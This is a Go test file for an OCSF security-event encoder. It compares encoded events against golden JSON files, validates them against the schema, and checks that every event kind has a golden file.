func pretty(t *testing.T, e *Encoder, g *golden) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := json.Indent(&b, e.Append(nil, testSeq, testNow, &g.ev), "", "  "); err != nil {
		t.Fatal(err)
	}
	b.WriteByte('\n')
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	validate := ocsftest.Validator(t)
	e := newTestEncoder()
	for _, g := range goldens() {
		t.Run(g.name, func(t *testing.T) {
			got, ok := bytes.CutPrefix(e.Append([]byte("before"), testSeq, testNow, &g.ev), []byte("before"))
			if !ok {
				t.Fatal("Append changed what stood before")
			}
			if err := validate(got); err != nil {
				t.Errorf("not valid OCSF: %v", err)
			}
			compare(t, filepath.Join("testdata", g.name+".json"), pretty(t, e, &g))
		})
	}
}

// compare fails when the file is not what the code makes; -update writes it.
func compare(t *testing.T, file string, want []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(file, want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s is not what the code makes; go test ./sensor/ocsf -update writes it (-code +file):\n%s", file, diff)
	}
}

// TestGoldenComplete fails when a kind has no golden file, or a file no event.
func TestGoldenComplete(t *testing.T) {
	kinds := map[event.Kind]bool{event.None: true, event.Heartbeat: true} // which never come here
	files := map[string]bool{}
	for _, g := range goldens() {
		kinds[g.ev.Kind] = true
		files[g.name+".json"] = true
		if code, _, _ := strings.Cut(g.name, "-"); g.ev.Kind != event.Lifecycle && code != g.ev.Kind.String() {
			t.Errorf("golden %s is of kind %v", g.name, g.ev.Kind)
		}
	}
	for k := range event.Kinds {
		if !kinds[event.Kind(k)] {
			t.Errorf("kind %v has no golden file", event.Kind(k))
		}
	}
	entries, err := filepath.Glob("testdata/*.json")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range entries {
		if !files[filepath.Base(f)] {
			t.Errorf("%s belongs to no event", f)
		}
	}
}
